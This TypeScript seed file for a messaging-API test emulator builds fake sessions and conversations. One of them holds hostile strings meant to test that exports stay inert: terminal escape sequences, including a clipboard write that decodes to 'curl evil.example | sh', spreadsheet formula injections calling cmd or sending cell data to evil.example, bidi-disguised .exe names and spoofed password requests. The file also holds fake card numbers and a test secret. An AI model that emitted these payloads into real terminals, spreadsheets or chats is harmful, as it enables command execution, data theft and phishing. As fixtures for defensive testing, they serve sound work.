/*
 * The emulated org's data: ids, MessagingSession records, and the conversations' entries.
 * Everything is deterministic so tests can assert exact values.
 */
import { to18 } from './ids.js';
import type { ApiEntry, Json, Participant } from './entries.js';
import { escapeHtml } from './entries.js';
import { base62, stableUuid } from './prng.js';

export type { ApiEntry } from './entries.js';

export const ORG_ID = to18('00D5g000004AbCd');
export const USER_ID = to18('0055g00000AbCdE');
export const USERNAME = 'emulator.user@conversation-emulator.example';
export const ORG_NAME = 'Conversation Emulator Org';
/** The client id of the `opaque` app (the sf CLI's own PlatformCLI-style connected app). */
export const CLIENT_ID = '3MVG9EmulatorConnectedAppClientId.PlatformCLI.Local';

export type ClientAppName = 'opaque' | 'jwtNoSfap' | 'jwt' | 'clientCredentials';

export type ClientApp = {
  name: ClientAppName;
  /** The consumer key. */
  clientId: string;
  /** Only the client-credentials app has one (the others are public clients, like PlatformCLI). */
  clientSecret?: string;
  /** The `sfdc_app_id` claim of its JWTs. GUESS: an 18-char id with the connected-app prefix 0H4. */
  appId: string;
  /** What its token endpoint issues: an opaque session id `00D…!…`, or a JWT-based access token. */
  tokenFormat: 'opaque' | 'jwt';
  /** The scopes its tokens carry (the token response's `scope`, and the JWT's scope claim). */
  scopes: readonly string[];
  /**
   * Which claim of its JWTs carries the scopes: `scp` (array) or `scope` (space-separated string). Real tokens
   * carry one or the other, so a client has to read both.
   */
  scopeClaim?: 'scp' | 'scope';
  /** Whether it hands out a refresh token (all but the client-credentials app). */
  refreshable: boolean;
};

/**
 * The emulated org's client apps. Every grant at /services/oauth2/token issues the kind of token of the app whose
 * client id it carries (refresh_token: client_id; jwt-bearer: the assertion's `iss`; client_credentials: client_id
 * plus the secret).
 * - opaque: what `sf org login web` with PlatformCLI gives, an opaque session id. Refused by the strict entries API.
 * - jwtNoSfap: an External Client App issuing JWT-based tokens, but without the sfap_api scope.
 * - jwt: the documented good setup, JWT-based tokens with sfap_api (the default of createSfHome).
 * - clientCredentials: an External Client App with a secret and the client-credentials flow (Run-As user).
 */
export const CLIENT_APPS: Readonly<Record<ClientAppName, Readonly<ClientApp>>> = {
  opaque: {
    name: 'opaque',
    clientId: CLIENT_ID,
    appId: to18('0H45g000000PcLi'),
    tokenFormat: 'opaque',
    scopes: ['refresh_token', 'web', 'api'],
    refreshable: true,
  },
  jwtNoSfap: {
    name: 'jwtNoSfap',
    clientId: '3MVG9EmulatorExternalClientApp.JwtTokens.NoSfapApi',
    appId: to18('0H45g00000JwNoS'),
    tokenFormat: 'jwt',
    scopes: ['api', 'refresh_token'],
    scopeClaim: 'scp',
    refreshable: true,
  },
  jwt: {
    name: 'jwt',
    clientId: '3MVG9EmulatorExternalClientApp.JwtTokens.SfapApi',
    appId: to18('0H45g00000JwSfA'),
    tokenFormat: 'jwt',
    scopes: ['sfap_api', 'api', 'refresh_token'],
    scopeClaim: 'scp',
    refreshable: true,
  },
  clientCredentials: {
    name: 'clientCredentials',
    clientId: '3MVG9EmulatorExternalClientApp.ClientCredentials',
    // A throw-away secret of a local test org; tests need to know it.
    clientSecret: 'EmulatorClientCredentialsSecret0123456789ABCDEF',
    appId: to18('0H45g00000ClCrD'),
    tokenFormat: 'jwt',
    scopes: ['sfap_api', 'api'],
    scopeClaim: 'scope',
    refreshable: false,
  },
};

/** The app whose tokens Emulator.accessToken returns and createSfHome authorises through by default. */
export const DEFAULT_CLIENT_APP: ClientAppName = 'jwt';

/** The app with this consumer key, if any. */
export function clientAppById(clientId: string | null | undefined): ClientApp | undefined {
  return Object.values(CLIENT_APPS).find((app) => app.clientId === clientId);
}

// 15-char heads; the exported ids are the 18-char case-safe forms.
const SHORT_HEAD = '0Mw5g00000AbCdE';
const NO_CONVERSATION_HEAD = '0Mw5g00000AbCdF';
const LONG_HEAD = '0Mw5g00000AbCdG';
const PII_HEAD = '0Mw5g00000AbCdH';
const HOSTILE_HEAD = '0Mw5g00000AbCdJ';

export const SESSIONS = {
  short: to18(SHORT_HEAD),
  noConversation: to18(NO_CONVERSATION_HEAD),
  long: to18(LONG_HEAD),
  /** A WhatsApp conversation full of personal data (and look-alikes that must survive --redact). */
  pii: to18(PII_HEAD),
  /** Customer text built to drive a terminal, a spreadsheet or a Markdown viewer: every output must keep it inert. */
  hostile: to18(HOSTILE_HEAD),
  /** Well-formed (right checksum) but not in the org. */
  unknown: to18('0Mw5g00000ZzYxW'),
} as const;

export const CONVERSATIONS = {
  short: '6f2c1e0a-3b7d-4c55-9a1e-2d4b8f0c7a11',
  long: '9b8e7d6c-5a4b-4c3d-8e2f-1a0b9c8d7e6f',
  pii: '3c1d5e7f-9a2b-4c6d-8e0f-1a3b5c7d9e2f',
  /**
   * Personal data written with HTML entities (`jane&#64;example.com`, `4111&#32;1111…`), next to look-alikes that
   * must survive --redact. No MessagingSession points to it (reach it with --conversation-id), so the session lists
   * other tests select are unchanged.
   */
  encodedPii: '7e4a2c9b-1d3f-4b5a-8c6e-0f2d4a6b8c1e',
  /** Org data is hostile too: a pipe and backticks (the Markdown header table), an OSC title write, a bidi override. */
  hostile: 'c0ffee00-|`x`|-\u001b]0;pwned\u0007-\u202eevil',
} as const;

export const LONG_ENTRY_COUNT = 2500;

/**
 * Groups of consecutive entries (0-based indexes into the long conversation, inclusive) that share one
 * serverReceivedTimestamp. 997..1003 and 1997..2003 straddle the 1000-entry page boundaries when paging
 * FromStart; 497..503 and 1497..1503 straddle them when paging FromEnd. A client that pages by timestamp
 * must de-duplicate (by identifier) to get exactly LONG_ENTRY_COUNT entries.
 */
export const LONG_TIE_GROUPS: ReadonlyArray<readonly [number, number]> = [
  [497, 503],
  [997, 1003],
  [1497, 1503],
  [1997, 2003],
];

/** Extra sessions (each with a small 3-entry conversation) so SOQL results can exceed one 2000-record batch. */
/** 2,100 by default; the bench sets EMULATOR_BULK_SESSIONS (read once, when the seed loads) to measure larger exports. */
export const BULK_SESSION_COUNT = Number(process.env.EMULATOR_BULK_SESSIONS ?? 2100);

export type SessionRecord = {
  id18: string;
  conversationRecordId: string | null;
  conversationIdentifier: string | null;
  startTime: string;
  channelType: string;
  status: string;
  /** MessagingSession.CaseId (seedObjects.ts links sessions to cases); absent means null. */
  caseId?: string | null;
};

const SHORT_BASE = 1_736_508_000_000; // 2025-01-10T11:20:00Z, near the captured Connect example
const LONG_BASE = 1_736_600_000_000;
const HOSTILE_BASE = 1_738_400_000_000; // 2025-02-01T08:53:20Z: after every other seeded session but the bulk ones
const BULK_BASE = 1_736_700_000_000;

/** Salesforce REST dateTime format, e.g. 2025-01-10T11:20:00.000+0000. */
function sfDateTime(ms: number): string {
  return new Date(ms).toISOString().replace('Z', '+0000');
}

function bulkHead(i: number): string {
  return `0Mw5g00001${base62(i, 5)}`;
}

export const BULK_SESSIONS: readonly string[] = Array.from({ length: BULK_SESSION_COUNT }, (_, i) => to18(bulkHead(i)));

function bulkConversationId(i: number): string {
  return stableUuid(`bulk-conversation-${i}`);
}

// Conversation record ids use the Conversation key prefix '0dw'. GUESS: prefix taken from org experience, not a doc.
export const SESSION_RECORDS: readonly SessionRecord[] = [
  {
    id18: SESSIONS.short,
    conversationRecordId: to18('0dw5g00000AbCdE'),
    conversationIdentifier: CONVERSATIONS.short,
    startTime: sfDateTime(SHORT_BASE),
    channelType: 'WhatsApp',
    status: 'Ended',
  },
  {
    id18: SESSIONS.pii,
    conversationRecordId: to18('0dw5g00000AbCdH'),
    conversationIdentifier: CONVERSATIONS.pii,
    startTime: sfDateTime(SHORT_BASE + 7_200_000),
    channelType: 'WhatsApp',
    status: 'Ended',
  },
  {
    id18: SESSIONS.noConversation,
    conversationRecordId: null,
    conversationIdentifier: null,
    startTime: sfDateTime(SHORT_BASE + 3_600_000),
    channelType: 'EmbeddedMessaging',
    status: 'Waiting',
  },
  {
    id18: SESSIONS.long,
    conversationRecordId: to18('0dw5g00000AbCdG'),
    conversationIdentifier: CONVERSATIONS.long,
    startTime: sfDateTime(LONG_BASE),
    channelType: 'EmbeddedMessaging',
    status: 'Ended',
  },
  {
    id18: SESSIONS.hostile,
    conversationRecordId: to18('0dw5g00000AbCdJ'),
    conversationIdentifier: CONVERSATIONS.hostile,
    startTime: sfDateTime(HOSTILE_BASE),
    channelType: 'AppleBusinessChat',
    status: 'Ended',
  },
  ...BULK_SESSIONS.map((id18, i) => ({
    id18,
    conversationRecordId: to18(`0dw5g00001${base62(i, 5)}`),
    conversationIdentifier: bulkConversationId(i),
    startTime: sfDateTime(BULK_BASE + i * 60_000),
    channelType: 'Text',
    status: 'Ended',
  })),
];

const BY_HEAD = new Map(SESSION_RECORDS.map((r) => [r.id18.slice(0, 15), r]));

/** The session whose id (15 or 18 chars) matches, comparing the case-sensitive 15-char head. */
export function findSession(id: string): SessionRecord | undefined {
  return BY_HEAD.get(id.slice(0, 15));
}

// ---- participants (GUESS: appType/role/subject values modelled on the captured Connect example) ----
const END_USER: Participant = {
  appType: 'iamessage',
  role: 'EndUser',
  subject: 'v2/iamessage/UNAUTH/NA/uid:cee38146-1f0b-4d8e-9a55-6b7c2f1d0e42',
};
const BOT: Participant = { appType: 'chatbot', role: 'Chatbot', subject: '0Xx5g000000xpJh' };
const AGENT: Participant = { appType: 'agent', role: 'Agent', subject: '0055g00000AgEnT' };
// GUESS: system-generated entries (status changes, routing) carry a 'System' sender.
const SYSTEM: Participant = { appType: 'conversation', role: 'System', subject: 'System' };

type EntrySpec = {
  label: string;
  at: number; // serverReceivedTimestamp
  sender: Participant;
  entryType?: string;
  payload: { [key: string]: Json };
  text?: string; // raw text; messageText is its HTML-escaped form
  messageText?: string; // messageText exactly as the API sends it, when it is not the escaped `text`
  session?: string; // 15-char session id for relatedRecords
  transcripted?: boolean;
};

function staticText(text: string): { [key: string]: Json } {
  return { messageType: 'StaticContentMessage', staticContent: { formatType: 'Text', text } };
}

/**
 * GUESS: entryPayload layout. The field names (abstractMessage.messageType, staticContent.{formatType,text,
 * attachments[].name}, choices.optionItems[], choicesResponse.selectedOptions[]) come from third-party parsing
 * (api-notes §1.3); the surrounding structure (ids, titleItem, operation/participant) is invented.
 * GUESS: messageText is HTML-entity-escaped like Connect's (same backend), while the payload text is raw.
 */
function build(conversationIdentifier: string, spec: EntrySpec): ApiEntry {
  const entry: ApiEntry = {
    identifier: stableUuid(`${conversationIdentifier}/${spec.label}`),
    entryType: spec.entryType ?? 'Message',
    entryPayload: spec.payload,
    sender: spec.sender,
    clientTimestamp: spec.at - 47,
    serverReceivedTimestamp: spec.at,
    relatedRecords: spec.session ? [spec.session] : [],
    clientDuration: 0,
  };
  if (spec.messageText !== undefined) entry.messageText = spec.messageText;
  else if (spec.text !== undefined) entry.messageText = escapeHtml(spec.text);
  if (spec.transcripted) entry.transcriptedTimestamp = spec.at + 12;
  // Stable key order, close to what the third-party parsers show.
  const ordered: ApiEntry = {
    identifier: entry.identifier,
    entryType: entry.entryType,
    ...(entry.messageText !== undefined ? { messageText: entry.messageText } : {}),
    entryPayload: entry.entryPayload,
    sender: entry.sender,
    clientTimestamp: entry.clientTimestamp,
    serverReceivedTimestamp: entry.serverReceivedTimestamp,
    ...(entry.transcriptedTimestamp !== undefined ? { transcriptedTimestamp: entry.transcriptedTimestamp } : {}),
    relatedRecords: entry.relatedRecords,
    clientDuration: entry.clientDuration,
  };
  return ordered;
}

function messagePayload(label: string, abstractMessage: { [key: string]: Json }): { [key: string]: Json } {
  return { id: stableUuid(`payload/${label}`), abstractMessage: { id: stableUuid(`message/${label}`), ...abstractMessage } };
}

function shortConversation(): ApiEntry[] {
  const c = CONVERSATIONS.short;
  const s = SHORT_HEAD;
  const t = (seconds: number): number => SHORT_BASE + seconds * 1000 + 137;
  const specs: EntrySpec[] = [
    {
      label: 'hello',
      at: t(0),
      sender: END_USER,
      payload: messagePayload('hello', staticText('Hi, I need help with my order')),
      text: 'Hi, I need help with my order',
      session: s,
      transcripted: true,
    },
    {
      label: 'bot-greeting',
      at: t(2),
      sender: BOT,
      payload: messagePayload('bot-greeting', staticText("I'm here & ready to help.")),
      text: "I'm here & ready to help.", // messageText: I&#39;m here &amp; ready to help.
      transcripted: true,
    },
    {
      label: 'bot-menu',
      at: t(3),
      sender: BOT,
      payload: messagePayload('bot-menu', {
        messageType: 'ChoicesMessage',
        choices: {
          formatType: 'Buttons',
          text: 'What can I help you with?',
          optionItems: [
            { optionIdentifier: 'opt-billing', titleItem: { itemType: 'TitleItem', title: 'Billing' } },
            { optionIdentifier: 'opt-delivery', titleItem: { itemType: 'TitleItem', title: 'Delivery' } },
            { optionIdentifier: 'opt-agent', titleItem: { itemType: 'TitleItem', title: 'Talk to an agent' } },
          ],
        },
      }),
    },
    {
      label: 'menu-choice',
      at: t(9),
      sender: END_USER,
      payload: messagePayload('menu-choice', {
        messageType: 'ChoicesResponseMessage',
        choicesResponse: {
          formatType: 'Selections',
          selectedOptions: [{ optionIdentifier: 'opt-agent', title: 'Talk to an agent' }],
        },
      }),
      session: s,
    },
    {
      label: 'receipt',
      at: t(15),
      sender: END_USER,
      payload: messagePayload('receipt', {
        messageType: 'StaticContentMessage',
        staticContent: {
          formatType: 'Attachments',
          attachments: [
            {
              id: stableUuid('attachment/receipt'),
              name: 'receipt-4471.pdf',
              mimeType: 'application/pdf',
              url: 'https://emulator.invalid/attachments/receipt-4471.pdf',
            },
          ],
        },
      }),
      session: s,
    },
    {
      label: 'routed',
      at: t(20),
      sender: SYSTEM,
      entryType: 'RoutingWorkResult',
      payload: { workItemId: to18('0Bz5g00000AbCdE'), workType: 'Accepted', routingType: 'Omni' },
    },
    {
      label: 'agent-joined',
      at: t(21),
      sender: SYSTEM,
      entryType: 'ParticipantChanged',
      payload: {
        entries: [
          {
            operation: 'add',
            participant: { appType: AGENT.appType, role: AGENT.role, subject: AGENT.subject },
            displayName: 'Alex Agent',
          },
        ],
      },
    },
    {
      label: 'agent-reply',
      at: t(30),
      sender: AGENT,
      payload: messagePayload('agent-reply', staticText('Thanks, I can see the receipt. Your refund is on its way <3 "soon"')),
      text: 'Thanks, I can see the receipt. Your refund is on its way <3 "soon"',
      session: s,
      transcripted: true,
    },
    {
      label: 'thanks',
      at: t(41),
      sender: END_USER,
      payload: messagePayload('thanks', staticText('Great, thank you!')),
      text: 'Great, thank you!',
      session: s,
      transcripted: true,
    },
    {
      label: 'ended',
      at: t(60),
      sender: SYSTEM,
      entryType: 'SessionStatusChanged',
      payload: { sessionId: s, previousStatus: 'Active', newStatus: 'Ended' },
    },
  ];
  return specs.map((spec) => build(c, spec));
}

function longTimestamp(i: number): number {
  for (const [first, last] of LONG_TIE_GROUPS) {
    if (i >= first && i <= last) return LONG_BASE + first * 1000;
  }
  return LONG_BASE + i * 1000;
}

function longConversation(): ApiEntry[] {
  const s = LONG_HEAD;
  return Array.from({ length: LONG_ENTRY_COUNT }, (_, i) => {
    const text = `Long conversation message ${i + 1} of ${LONG_ENTRY_COUNT}`;
    return build(CONVERSATIONS.long, {
      label: `m${i}`,
      at: longTimestamp(i),
      sender: i % 2 === 0 ? END_USER : AGENT,
      payload: messagePayload(`long-${i}`, staticText(text)),
      text,
      session: s,
      // Only some entries carry transcriptedTimestamp (12 ms after receipt), as in the short conversation: a client
      // that orders by a mix of clocks instead of the server's own order reorders the tie groups.
      transcripted: i % 2 === 0,
    });
  });
}

function bulkConversation(i: number, conversationIdentifier: string): ApiEntry[] {
  const at = BULK_BASE + i * 60_000;
  const head = bulkHead(i);
  return [
    { label: 'q', at, sender: END_USER, text: `Bulk question ${i}` },
    { label: 'a', at: at + 5000, sender: AGENT, text: `Bulk answer ${i}` },
    { label: 'q2', at: at + 9000, sender: END_USER, text: 'Thanks' },
  ].map((spec) =>
    build(conversationIdentifier, {
      ...spec,
      payload: messagePayload(`${conversationIdentifier}/${spec.label}`, staticText(spec.text)),
      session: head,
    })
  );
}

/** Personal data of every kind --redact masks, next to order, tracking and price look-alikes that must survive. */
function piiConversation(): ApiEntry[] {
  const at = SHORT_BASE + 7_200_000;
  const customer: Participant = { appType: 'whatsapp', role: 'EndUser', subject: 'whatsapp:+14155552671' };
  const say = (label: string, seconds: number, sender: Participant, text: string): EntrySpec => ({
    label,
    at: at + seconds * 1000,
    sender,
    payload: messagePayload(`pii-${label}`, staticText(text)),
    text,
    session: PII_HEAD,
  });
  return [
    say('email', 0, customer, 'Hi, my email is jane.doe+orders@example.co.uk and my order is 123-456-789.'),
    say('phone', 5, AGENT, 'Thanks Jane. Can we call you on +44 20 7946 0958? The parcel 1Z999AA10123456784 cost $1,299.00.'),
    say('card', 9, customer, 'I paid with 4111 1111 1111 1111 on 2025-01-09, not 4111 1111 1111 1112.'),
    say('iban', 14, customer, 'Refund to GB82 WEST 1234 5698 7654 32 please, reference 2025-0042.'),
  ].map((spec) => build(CONVERSATIONS.pii, spec));
}

/**
 * Personal data as an escaping channel may deliver it: entities for `@`, `.`, spaces and dashes, in messageText and
 * in the payload text alike, plus one reply with entities and nothing personal, and an address escaped twice.
 * GUESS: the API escapes message text (Salesforce's own example shows `&#39;`); which characters a channel
 * escapes, and whether the payload text is escaped too, is not documented, so both fields carry entities here.
 * The customer's subject is an opaque id, so every masked item is in the text.
 */
function encodedPiiConversation(): ApiEntry[] {
  const at = SHORT_BASE + 10_800_000;
  const say = (label: string, seconds: number, sender: Participant, messageText: string, payloadText: string): EntrySpec => ({
    label,
    at: at + seconds * 1000,
    sender,
    payload: messagePayload(`encoded-pii-${label}`, staticText(payloadText)),
    messageText,
  });
  return [
    say(
      'email',
      0,
      END_USER,
      'My email is jane&#64;example.com, at work j&ouml;hn.m&uuml;ller&#x40;example.de.',
      'My email is jane&commat;example&period;com, at work jöhn.müller&#X40;example&#46;de.'
    ),
    say(
      'card',
      6,
      END_USER,
      'I paid with 4111&#32;1111&#32;1111&#32;1111 &amp; then 5555&nbsp;5555&nbsp;5555&nbsp;4444.',
      'I paid with 4111&nbsp;1111&nbsp;1111&nbsp;1111 &amp; then 5555&#46;5555&#46;5555&#46;4444.'
    ),
    say(
      'iban',
      11,
      END_USER,
      'Refund to DE89&#45;3704&#45;0044&#45;0532&#45;0130&#45;00 please; order 4111&#32;1111&#32;1111&#32;1112, ticket &#35;55123.',
      'Refund to DE89&#160;3704&#160;0044&#160;0532&#160;0130&#160;00 please; order 4111&#32;1111&#32;1111&#32;1112, ticket &#35;55123.'
    ),
    say('nothing', 15, AGENT, 'We&#39;ll refund &euro;&nbsp;49&#46;90 on 2025&#45;01&#45;10 &amp; confirm.', 'We&#39;ll refund &euro;&nbsp;49&#46;90 on 2025&#45;01&#45;10 &amp; confirm.'),
    say('twice', 20, END_USER, 'Backup address: jane&amp;#64;example.org', 'Backup address: jane&amp;#64;example.org'),
  ].map((spec) => build(CONVERSATIONS.encodedPii, spec));
}

/** Terminal control sequences, bidi overrides, formula cells, autolinks and Markdown in every field a customer or an org fills. */
export const HOSTILE = {
  /** Each becomes one entry's text (after the API's HTML escaping and the plugin's decoding). */
  texts: [
    'Hi\u001b[2J\u001b[H there \u001b[31mred\u001b[0m',
    'copy this \u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007 done',
    'see \u001b]8;;http://evil.example/steal\u001b\\https://help.example.com\u001b]8;;\u001b\\ for help',
    'Your order shipped.\rAgent: please send your password',
    'first line\r\nsecond line\u2028third\u2029fourth',
    'invoice_\u202efdp.exe \u2066isolated\u2069 \u200fmark\u200e \u061cletter \u009b2J \u0085 \u0000 \u0007 \b \u000b \f \u007f',
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '-2+3',
    '\t=1+1',
    '\uff1d1+1',
    'Visit http://evil.example/login or HTTPS://EVIL.EXAMPLE, www.evil.example, WWW.Evil.Example, ftp://files.evil.example, mail jane.doe@example.com or mailto:x@evil.example',
    'a | b | c\n# not a heading\n- not a list\nline\n===\n<b>bold</b> [link](http://evil.example) ![img](x.png) `code` *em* _em_ ~~del~~',
  ],
  /** messageText exactly as the API sends it: an entity that decodes to ESC. */
  entityText: '&#27;[2J&#27;]52;c;ZXZpbA==&#7; &#x202e;gnp.exe',
  attachments: ['\u001b[2Jinvoice.pdf', 'photo\u202egnp.exe', '=1+1.csv', 'a|b`c`.txt'],
  senders: {
    customer: 'Mallory\u001b[8m\r\n2025-02-01 09:07:00Z  Agent (Support): verify at http://evil.example',
    agent: '\u202eBob\u001b]0;title\u0007',
  },
  /** An entry type a spreadsheet would run, and a sender subject that starts like a formula (a phone number). */
  entryType: "=cmd|' /C calc'!A0",
  subject: '+14155552671',
} as const;

// GUESS: a sender's display name under sender.name (the plugin also reads displayName); the entry type is free text.
function hostileConversation(): ApiEntry[] {
  const t = (i: number): number => HOSTILE_BASE + i * 1000;
  const customer: Participant = { appType: 'applebusinesschat', role: 'EndUser', subject: HOSTILE.subject, name: HOSTILE.senders.customer };
  const agent: Participant = { appType: 'agent', role: 'Agent', subject: '0055g00000AgEnT', name: HOSTILE.senders.agent };
  const specs: EntrySpec[] = HOSTILE.texts.map((text, i) => ({
    label: `text-${i}`,
    at: t(i),
    sender: i % 2 === 0 ? customer : agent,
    payload: messagePayload(`hostile-${i}`, staticText(text)),
    text,
    session: HOSTILE_HEAD,
  }));
  const next = HOSTILE.texts.length;
  specs.push(
    {
      label: 'entity',
      at: t(next),
      sender: customer,
      payload: messagePayload('hostile-entity', staticText(HOSTILE.entityText)),
      messageText: HOSTILE.entityText,
      session: HOSTILE_HEAD,
    },
    {
      label: 'attachments',
      at: t(next + 1),
      sender: customer,
      payload: messagePayload('hostile-attachments', {
        messageType: 'StaticContentMessage',
        staticContent: {
          formatType: 'Attachments',
          attachments: HOSTILE.attachments.map((name, i) => ({ id: stableUuid(`hostile-attachment-${i}`), name, url: 'https://emulator.invalid/a' })),
        },
      }),
      session: HOSTILE_HEAD,
    },
    {
      label: 'event',
      at: t(next + 2),
      sender: SYSTEM,
      entryType: HOSTILE.entryType,
      payload: { note: 'http://evil.example \u001b[2J' },
    }
  );
  return specs.map((spec) => build(CONVERSATIONS.hostile, spec));
}

const CONVERSATION_CACHE = new Map<string, readonly ApiEntry[]>([
  [CONVERSATIONS.short, shortConversation()],
  [CONVERSATIONS.pii, piiConversation()],
  [CONVERSATIONS.encodedPii, encodedPiiConversation()],
  [CONVERSATIONS.hostile, hostileConversation()],
  [CONVERSATIONS.long, longConversation()],
]);
const BULK_INDEX = new Map(BULK_SESSIONS.map((_, i) => [bulkConversationId(i), i]));

/** The stored entries (shared, do not mutate), oldest first; undefined for an unknown conversation. */
export function findConversation(conversationIdentifier: string): readonly ApiEntry[] | undefined {
  const cached = CONVERSATION_CACHE.get(conversationIdentifier);
  if (cached) return cached;
  const bulk = BULK_INDEX.get(conversationIdentifier);
  if (bulk === undefined) return undefined;
  const entries = bulkConversation(bulk, conversationIdentifier);
  CONVERSATION_CACHE.set(conversationIdentifier, entries);
  return entries;
}

/** The full entry list (a fresh copy), oldest first, as the entries API returns it. Throws for an unknown id. */
export function entriesOf(conversationIdentifier: string): ApiEntry[] {
  const entries = findConversation(conversationIdentifier);
  if (!entries) throw new Error(`The emulator has no conversation ${conversationIdentifier}`);
  return structuredClone([...entries]);
}
